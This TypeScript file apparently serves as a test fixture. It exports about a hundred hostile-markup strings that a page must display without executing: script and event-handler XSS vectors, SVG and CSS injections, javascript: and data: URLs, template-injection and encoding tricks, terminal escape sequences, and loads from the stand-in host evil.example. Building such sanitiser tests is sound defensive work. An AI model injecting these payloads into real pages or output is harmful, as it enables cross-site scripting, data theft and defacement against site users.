const ESC = '\u001b';

/** What runs when it is believed: each sets a mark, opens a dialog, or asks a server for something. */
const run = (js = 'window.__hit=1;alert(1)') => js;

const html = [
  `<script>${run()}</script>`,
  `<SCRIPT>${run()}</SCRIPT >`,
  `</script><script>${run()}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>${run()}</script>`,
  `<scr<script>ipt>${run()}</scr</script>ipt>`,
  `<!--><script>${run()}</script>-->`,
  `<!-- --!><img src=x onerror="${run()}">`,
  `]]><script>${run()}</script>`,
  `</title><script>${run()}</script>`,
  `</style><script>${run()}</script>`,
  `</textarea><script>${run()}</script>`,
  `</pre></details></section></main><script>${run()}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run()}>">`,
  `<template><script>${run()}</script></template>`,
  `<iframe src="javascript:parent.__hit=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `<object data="https://evil.example/o"></object>`,
  `<embed src="https://evil.example/e">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/c.css">`,
  `<link rel=prefetch href="https://evil.example/p">`,
  `<form action="https://evil.example/"><button autofocus>go</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run()}">`,
  `<dialog open><form method=dialog><button>gotcha</button></form></dialog>`,
  `<portal src="https://evil.example/"></portal>`,
  `<plaintext>`,
  `<xmp><script>${run()}</script></xmp>`,
  `<select><script>${run()}</script></select>`,
];

const attributes = [
  `<img src=x onerror=${run('window.__hit=1')}>`,
  `<img src="https://evil.example/i.png">`,
  `<img srcset="https://evil.example/1x.png 1x">`,
  `<image href="https://evil.example/i">`,
  `<body onload=${run('window.__hit=1')}>`,
  `<input autofocus onfocus="${run()}">`,
  `<details open ontoggle="${run()}">x</details>`,
  `<video><source onerror="${run()}"></video>`,
  `<video poster="https://evil.example/v.png"></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay>`,
  `<marquee onstart="${run()}">x</marquee>`,
  `<a href="javascript:${run()}" autofocus>click</a>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping">click</a>`,
  `" onmouseover="${run()}" x="`,
  `' onfocus='${run()}' autofocus tabindex='0`,
  '"><script>window.__hit=1</script>',
  `'><img src=x onerror=alert(1)>`,
  '`><img src=x onerror=alert(1)>',
  `x" autofocus onfocus="${run()}`,
  `open ontoggle=${run('window.__hit=1')}`,
];

const svg = [
  `<svg onload="${run()}"></svg>`,
  `<svg><script>${run()}</script></svg>`,
  `<svg><script href="https://evil.example/s.js"/></svg>`,
  `<svg><use href="https://evil.example/u.svg#x"/></svg>`,
  `<svg><image href="https://evil.example/i.svg"/></svg>`,
  `<svg><animate onbegin="${run()}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${run()}">`,
  `<svg><foreignObject><img src=x onerror="${run()}"></foreignObject></svg>`,
  `<svg><a href="javascript:${run()}"><text>click</text></a></svg>`,
  `</text></svg><script>${run()}</script>`,
];

const css = [
  `<style>@import url(https://evil.example/c.css)</style>`,
  `<style>*{background:url(https://evil.example/b)}</style>`,
  `<div style="background:url(https://evil.example/d)">x</div>`,
  `<div style="position:fixed;inset:0;background:red">over everything</div>`,
  `} body{display:none} .x{`,
  `*/ body{display:none} /*`,
  `</style><style>body{display:none}</style>`,
  `<p style="width:expression(alert(1))">`,
  `@font-face{font-family:x;src:url(https://evil.example/f)}`,
  `;background-image:url('https://evil.example/n')`,
];

const urls = [
  `javascript:${run()}`,
  `JaVaScRiPt:${run()}`,
  `java\tscript:${run()}`,
  `data:text/html,<script>${run()}</script>`,
  `vbscript:msgbox(1)`,
  `https://evil.example/a?b=<script>`,
  `//evil.example/x`,
  `[click](javascript:alert(1))`,
  `![i](https://evil.example/i.png)`,
  `<javascript:alert(1)>`,
];

const templates = [
  '${window.__hit=1}',
  '{{constructor.constructor("window.__hit=1")()}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '`${alert(1)}`',
  '\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e',
  '&lt;script&gt;window.__hit=1&lt;/script&gt;',
  '&#60;script&#62;window.__hit=1&#60;/script&#62;',
  '%3Cscript%3Ewindow.__hit=1%3C/script%3E',
  '+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-',
];

const terminal = [
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}]8;;https://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;c3RvbGVu\u0007`,
  '\u009b2J\u009d0;x\u009c',
  'nul\0<script>alert(1)</script>',
  '\u202egpj.exe<img src=x onerror=alert(1)>',
  '\u2066\u2067isolated\u2069',
  '\ufeff<script>alert(1)</script>',
  'line\u2028<script>alert(1)</script>\u2029',
  '＜script＞window.__hit=1＜/script＞',
];

/** A hundred texts that a page must show and never obey. */
export const hostileMarkup: readonly string[] = [
  ...html,
  ...attributes,
  ...svg,
  ...css,
  ...urls,
  ...templates,
  ...terminal,
];
